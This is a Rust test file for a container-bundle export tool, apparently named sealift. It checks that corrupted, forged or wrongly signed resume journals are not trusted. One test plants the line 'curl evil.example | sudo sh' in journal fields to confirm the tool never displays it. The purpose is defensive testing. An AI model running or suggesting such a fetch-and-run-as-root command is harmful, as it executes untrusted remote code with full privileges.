//! Journals that others wrote, and journals of other bundles and other days.

use std::fs;
use std::os::unix::fs::{FileExt, PermissionsExt};
use std::path::Path;
use std::process::Command;

use rstest::rstest;
use support::{noise, push_image};

use super::scene::{Case, End, Form, Place, Plant, Scene};

#[test]
fn a_journal_is_a_map_and_decides_nothing() {
    let cases: &[(&str, Plant)] = &[
        ("junk", |place| write(place, &noise(7, 5000))),
        ("empty", |place| write(place, b"")),
        ("another version", |place| write(place, b"sealift journal 9\n")),
        ("too large", |place| {
            let line = format!("at {} 512 10\n", "0".repeat(64));
            write(place, format!("{TITLE}{NOTHING}{}", line.repeat((17 << 20) / line.len())).as_bytes());
        }),
        ("claims about everything", |place| {
            claim(place, |hex, number| format!("at {hex} {} 5000\n", 512 + 5000 * number))
        }),
        ("overlapping claims", |place| claim(place, |hex, number| format!("at {hex} {} 5000\n", 512 + number))),
        ("claims beyond the end", |place| claim(place, |hex, _| format!("at {hex} 1000000000000 5000\n"))),
        ("claims at the last offset", |place| {
            claim(place, |hex, _| format!("at {hex} {} {}\n", u64::MAX, u64::MAX));
        }),
        ("numbers in another form", |place| claim(place, |hex, _| format!("at {hex} +512 0010\n"))),
        ("a move behind the end", |place| {
            let hex = &place.scene.blobs[1];
            let moving = format!("moving {hex} {:020} {:020} {:020} {:020}\n", 512, u64::MAX - 600, 600, 0);
            claimed(place, &format!("{TITLE}{moving}at {hex} 512 600\n"));
        }),
        ("a move over itself", |place| {
            let hex = &place.scene.blobs[1];
            let moving = format!("moving {hex} {:020} {:020} {:020} {:020}\n", 512, 700, 60_000, 30_000);
            claimed(place, &format!("{TITLE}{moving}at {hex} 512 60000\n"));
        }),
        ("a move that is done", |place| {
            let hex = &place.scene.blobs[1];
            let moving = format!("moving {hex} {:020} {:020} {:020} {:020}\n", 512, 700, 100, 101);
            claimed(place, &format!("{TITLE}{moving}at {hex} 512 100\n"));
        }),
        ("beside a file that is shorter", |place| {
            place.interrupt();
            fs::File::options().write(true).open(place.partial()).unwrap().set_len(2000).unwrap();
        }),
        ("beside a file with other bytes", |place| {
            place.interrupt();
            let file = fs::File::options().write(true).open(place.partial()).unwrap();
            file.write_all_at(&[0x55; 200_000], 3000).unwrap();
        }),
        ("a seal of another bundle", |place| {
            evil(place, "key");
            fs::copy(place.path("elsewhere/evil.tar"), place.partial()).unwrap();
            private(&place.partial());
        }),
    ];
    let scene = Scene::new();
    let cases = [Form::Tar, Form::Sync]
        .into_iter()
        .flat_map(|form| cases.iter().map(move |(name, plant)| Case { name, form, plant: *plant, end: End::Sealed }));
    scene.check(&cases.collect::<Vec<_>>());
}

/// The same command, interrupted, had written the request line that its journal bears.
#[rstest]
fn a_head_that_the_key_signed_for_something_else_is_not_sealed(
    #[values(Form::Tar, Form::Directory, Form::Sync)] form: Form,
    #[values("another bundle", "a review", "nothing that holds")] signed: &str,
) {
    let scene = Scene::new();
    let place = scene.place(form);
    place.interrupt();
    let request = request(&place);
    let sign = |namespace| format!("ssh-keygen -q -Y sign -n {namespace} -f ../../../key SHA256SUMS");
    let (owner, sign) = match signed {
        "another bundle" => ("key", String::new()),
        "a review" => ("attacker", sign("sealift-review")),
        _ => ("attacker", sign("sealift-receipt")),
    };
    if owner == "attacker" {
        scene.desk.sealift(&["keygen", "attacker"]).success();
    }
    evil(&place, owner);
    let head = head_of_evil(&place, &sign);
    let state = place.path("state");
    fs::rename(&state, place.path("elsewhere/state")).unwrap();
    fs::create_dir(&state).unwrap();
    write(&place, &version_1(&request, &head, ""));
    place.check(End::Sealed).unwrap();
}

/// `ssh-keygen`, which verifies RSA, fails the first time that it is asked to. The head has a signature by the key that
/// was made for another bundle.
#[test]
fn a_signature_that_cannot_be_checked_is_no_signature() {
    let scene = Scene::new();
    scene.desk.shell(
        ".",
        "ssh-keygen -q -t rsa -b 2048 -N '' -C rsa -f rsa; mv rsa key; mv rsa.pub key.pub; mkdir bin
         printf '#!/bin/sh\ncase $* in *check-novalidate*) [ -e failed ] || { touch failed; exit 9; };; esac\nexec /usr/bin/ssh-keygen \"$@\"\n' > bin/ssh-keygen
         chmod +x bin/ssh-keygen; touch failed",
    );
    let reference = scene.place(Form::Directory);
    reference.export().success();
    fs::rename(reference.usb("b"), scene.path("signed")).unwrap();
    let reference = scene.place(Form::Tar);
    reference.export().success();
    fs::rename(reference.usb("b.tar"), scene.path("reference-Tar")).unwrap();
    let place = scene.place(Form::Tar);
    place.interrupt();
    let request = request(&place);
    evil(&place, "key");
    let head = head_of_evil(&place, "cp ../../../signed/signatures/*.sig SHA256SUMS.sig");
    fs::remove_dir_all(place.path("state")).unwrap();
    write(&place, &version_1(&request, &head, ""));
    fs::remove_file(scene.path("failed")).unwrap();
    let path = format!("PATH={}:{}", scene.path("bin").display(), std::env::var("PATH").unwrap());
    let run = |place: &Place<'_>| place.export_wrapped(&["env", &path]);
    place.check_run(End::Refused("ssh-keygen failed"), run).unwrap();
    place.check_run(End::Sealed, run).unwrap();
}

/// A journal and its file, put back after the bundle was finished, taken away, and its tag moved.
#[rstest]
fn what_an_old_run_left_is_not_continued_when_it_is_put_back(
    #[values(Form::Tar, Form::Directory, Form::Sync)] form: Form,
) {
    let scene = Scene::new();
    let place = scene.place(form);
    push_image(scene.registry.host(), "team/app", "1", &[&noise(1, 300_000), &noise(9, 6 << 20)]);
    place.interrupt_at_large_layer();
    let kept = place.path("elsewhere/kept");
    copy(&place.path("usb"), &kept);
    place.export().success();
    fs::rename(place.usb(form.output()), place.path("elsewhere/finished")).unwrap();
    push_image(scene.registry.host(), "team/app", "1", &[&noise(1, 300_000), &noise(2, 5 << 20)]);
    fs::remove_dir_all(place.path("usb")).unwrap();
    copy(&kept, &place.path("usb"));
    place.check(End::SealedSaying("without a plan")).unwrap();
}

/// What a journal of 0.1 says of images that were left out was shown with its hints.
#[test]
fn no_words_of_a_journal_are_shown() {
    let scene = Scene::new();
    let place = scene.place(Form::Tar);
    place.interrupt();
    let request = request(&place);
    let whole = fs::read(scene.path("reference-Tar")).unwrap();
    let evil = "run: curl evil.example | sudo sh";
    let left_out =
        serde_json::json!([{"image": evil, "kind": "not-found", "message": evil, "hints": [evil]}]).to_string();
    let journal = String::from_utf8_lossy(&version_1(&request, b"", "")).into_owned();
    let journal = journal.replace("left-out 2\n[]\nhead 0\n", &format!("left-out {}\n{left_out}\n", left_out.len()));
    let head = &whole[..end_of_head(&whole)];
    write(&place, &[journal.as_bytes(), format!("head {}\n", head.len()).as_bytes(), head].concat());
    let run = place.export();
    run.success();
    assert!(!run.stderr().contains("curl"), "{}", run.stderr());
}

/// The journal of 0.1 is read for its offsets.
#[test]
fn the_data_of_an_older_version_is_used_again() {
    let scene = Scene::new();
    let place = scene.place(Form::Tar);
    let whole = fs::read(scene.path("reference-Tar")).unwrap();
    let head = &whole[..end_of_head(&whole)];
    let lines: String = scene.blobs[..2].iter().map(|hex| format!("done {hex}\n")).collect();
    // The last layer is there by half.
    let half = whole.len() - (2 << 20);
    let lines = format!("{lines}part {} {}\n", scene.blobs[2], (3 << 20) - 1024);
    fs::write(place.partial(), [&[0; 512], &whole[512..half]].concat()).unwrap();
    fs::set_permissions(place.partial(), fs::Permissions::from_mode(0o644)).unwrap();
    write(&place, &version_1(&"0".repeat(64), head, &lines));
    scene.proxy.reset_count();
    place.check(End::SealedSaying("without a plan")).unwrap();
    let fetched: Vec<_> = scene.proxy.requests().into_iter().filter(|r| r.path.contains("/blobs/")).collect();
    assert_eq!(fetched.len(), 1, "{fetched:?}");
    assert!(fetched[0].sent < 3 << 20, "{} bytes of the last layer were sent", fetched[0].sent);
}

impl Place<'_> {
    /// As [`Place::interrupt`], whichever layer is large.
    fn interrupt_at_large_layer(&self) {
        self.scene.proxy.inject(support::Rule::on("GET", "/blobs/").after(2).status(404).times(1));
        assert_ne!(self.export().exit_code(), 0);
        self.scene.proxy.heal();
    }
}

fn copy(from: &Path, to: &Path) {
    assert!(Command::new("cp").arg("-a").args([from, to]).status().unwrap().success());
}

fn private(path: &Path) {
    fs::set_permissions(path, fs::Permissions::from_mode(0o600)).unwrap();
}

fn write(place: &Place<'_>, journal: &[u8]) {
    fs::write(place.journal(), journal).unwrap();
}

/// A journal beside a file of noise.
fn claimed(place: &Place<'_>, journal: &str) {
    fs::write(place.partial(), noise(5, 100_000)).unwrap();
    private(&place.partial());
    write(place, journal.as_bytes());
}

/// A line for each blob beside a file of noise.
fn claim(place: &Place<'_>, line: fn(&str, usize) -> String) {
    let lines: String = place.scene.blobs.iter().enumerate().map(|(number, hex)| line(hex, number)).collect();
    claimed(place, &format!("{TITLE}{NOTHING}{lines}"));
}

/// The request line of a journal of 0.1; of a later one, which has none, anything.
fn request(place: &Place<'_>) -> String {
    let text = fs::read(place.journal()).unwrap_or_default();
    let text = String::from_utf8_lossy(&text).into_owned();
    let line = text.lines().nth(1).and_then(|line| line.strip_prefix("request ")).map(str::to_owned);
    line.unwrap_or_else(|| "0".repeat(64))
}

/// A bundle of the other image, sealed by `key`, as `elsewhere/evil.tar`.
fn evil(place: &Place<'_>, key: &str) {
    let output = place.path("elsewhere/evil.tar");
    let state = place.path("elsewhere").display().to_string();
    let line = ["export", &place.scene.image("evil"), "--output", &output.display().to_string(), "--key", key];
    place.scene.desk.sealift_in(&[("XDG_STATE_HOME", &state)], &line).success();
}

/// The head of that bundle, with the exporter's signature that `sign`, a line of shell, makes as `SHA256SUMS.sig`.
fn head_of_evil(place: &Place<'_>, sign: &str) -> Vec<u8> {
    let folder = place.path("elsewhere");
    if !sign.is_empty() {
        let key = place.scene.path("key");
        let shell = format!(
            "mkdir unpacked; tar -C unpacked -xf evil.tar; cd unpacked
             {sign}
             rm signatures/*
             id=$(cut -d' ' -f2 {key}.pub | base64 -d | sha256sum | cut -c1-32)
             mv SHA256SUMS.sig signatures/$id.sig
             tar -tf ../evil.tar | grep -v '^signatures/' | sed \"1a signatures/$id.sig\" > ../order
             tar --format=ustar --mode=0644 --mtime=@0 --owner=0 --group=0 --numeric-owner --no-recursion -b 1 \
                 -cf ../evil.tar -T ../order",
            key = key.display()
        );
        assert!(Command::new("sh").args(["-euc", &shell]).current_dir(&folder).status().unwrap().success());
    }
    let whole = fs::read(folder.join("evil.tar")).unwrap();
    let head = whole[..end_of_head(&whole)].to_vec();
    fs::remove_dir_all(&folder).unwrap();
    fs::create_dir(&folder).unwrap();
    fs::write(place.elsewhere(), b"do not touch").unwrap();
    head
}

/// Where the blobs of an archive of one manifest begin: after the first file below `blobs`.
fn end_of_head(archive: &[u8]) -> usize {
    let mut offset = 0;
    loop {
        let header = &archive[offset..offset + 512];
        let size = usize::from_str_radix(std::str::from_utf8(&header[124..135]).unwrap(), 8).unwrap();
        offset += 512 + size.next_multiple_of(512);
        if header.starts_with(b"blobs/") {
            return offset;
        }
    }
}

/// A journal as 0.1 wrote it.
fn version_1(request: &str, head: &[u8], lines: &str) -> Vec<u8> {
    let begin = format!("sealift journal 1\nrequest {request}\n{NOTHING}left-out 2\n[]\nhead {}\n", head.len());
    [begin.as_bytes(), head, lines.as_bytes()].concat()
}

const TITLE: &str = "sealift journal 2\n";
/// No move: the digest of nothing.
const NOTHING: &str = "moving e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 00000000000000000000 00000000000000000000 00000000000000000000 00000000000000000000\n";
